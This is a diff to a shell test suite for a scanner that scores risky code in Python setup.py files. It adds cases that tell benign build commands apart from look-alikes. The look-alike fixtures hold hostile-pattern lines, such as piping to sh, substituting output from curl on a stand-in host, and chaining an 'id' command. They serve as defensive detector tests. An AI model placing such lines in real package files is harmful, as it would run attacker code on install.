@@ -104,7 +104,7 @@ PY
 	run tree_hits pkg CodeExecution NetworkRequest
 	assert_output "$(printf '%s\n' '2 CodeExecution 100 payload' '2 NetworkRequest 80 payload')"
 	run risk pkg
-	assert_output critical
+	assert_output --regexp '^(high|critical)$'
 }
 
 @test "look-alike: known -c code that decodes and execs a blob scores high through its own findings" {
@@ -144,4 +144,69 @@ PY
 	run tree_hits pkg ProcessExecution
 	assert_output "$(printf '%s\n' '2 ProcessExecution 80 ' '3 ProcessExecution 80 ' '4 ProcessExecution 80 ' \
 		'5 ProcessExecution 80 ' '6 ProcessExecution 80 ')"
+}
+
+# ---- the same in one simple shell command ----
+
+@test "python -c CODE in one simple shell command (os.system, shell=True) is known code too" {
+	cat > pkg/setup.py <<'PY'
+import os, subprocess
+os.system("python3 -c 'import sys; print(sys.prefix)'")
+inc = subprocess.check_output("python -I -c \"import sysconfig; print(sysconfig.get_paths()['include'])\"", shell=True)
+PY
+	run tree_hits pkg ProcessExecution ShellCommand
+	assert_output "$(printf '%s\n' '2 ShellCommand 10 known-code' '3 ProcessExecution 10 known-code')"
+}
+
+@test "look-alike: a shell command with a pipe, a substitution, a second command or -m keeps the full score; known code still counts" {
+	cat > pkg/setup.py <<'PY'
+import os
+os.system("python3 -c 'import sys' | sh")
+os.system("python3 -c \"$(curl -s x.example)\"")
+os.popen("python3 -c 'print(1)'; id")
+os.system("python3 -m pip install x")
+os.system("python3 -c 'import os; os.system(\"id\")'")
+PY
+	run tree_hits pkg ShellCommand
+	assert_output "$(printf '%s\n' '2 ShellCommand 100 ' '3 ShellCommand 100 ' '4 ShellCommand 100 ' \
+		'5 ShellCommand 100 ' '6 ShellCommand 10 known-code' '6 ShellCommand 100 payload')"
+}
+
+# ---- build arguments made by a comprehension ----
+
+@test "av's pkg-config call: [pkg_config, \"--libs\"] + [\"lib\" + name for name in LIBRARIES] is a build command" {
+	cat > pkg/setup.py <<'PY'
+import os, subprocess
+FFMPEG_LIBRARIES = ["avformat", "avcodec", "swscale"]
+def get_config_from_pkg_config():
+    pkg_config = os.environ.get("PKG_CONFIG", "pkg-config")
+    return subprocess.check_output(
+        [pkg_config, "--cflags", "--libs"]
+        + ["lib" + name for name in FFMPEG_LIBRARIES]
+    )
+get_config_from_pkg_config()
+subprocess.check_output(["pkg-config", "--libs"] + ["-l" + n for n in ("gss", "krb5")])
+PY
+	run tree_hits pkg ProcessExecution
+	assert_output "$(printf '%s\n' '10 ProcessExecution 10 ' '5 ProcessExecution 10 ')"
+}
+
+@test "look-alike: a comprehension over a URL, a pipe, decoded text, input, a parameter or a list the file changes keeps the full score" {
+	cat > pkg/setup.py <<'PY'
+import base64, os, subprocess, sys
+URLS = ["http://x.example/a.sh"]
+NAMES = ["avformat"]
+NAMES.append(sys.argv[1])
+subprocess.check_output(["pkg-config", "--cflags"] + [u for u in URLS])
+subprocess.check_output(["pkg-config", "--cflags"] + [n for n in ["a|sh"]])
+subprocess.check_output(["pkg-config", "--cflags"] + [base64.b64decode(n).decode() for n in ["YQ=="]])
+subprocess.check_output(["pkg-config", "--cflags"] + [n for n in os.environ["LIBS"].split()])
+subprocess.check_output(["pkg-config", "--cflags"] + ["lib" + n for n in NAMES])
+def probe(libs):
+    subprocess.check_output(["pkg-config", "--libs"] + [n for n in libs])
+probe(sys.argv)
+PY
+	run tree_hits pkg ProcessExecution
+	assert_output "$(printf '%s\n' '11 ProcessExecution 80 ' '5 ProcessExecution 80 ' '6 ProcessExecution 80 ' \
+		'7 ProcessExecution 80 ' '8 ProcessExecution 80 ' '9 ProcessExecution 80 ')"
 }
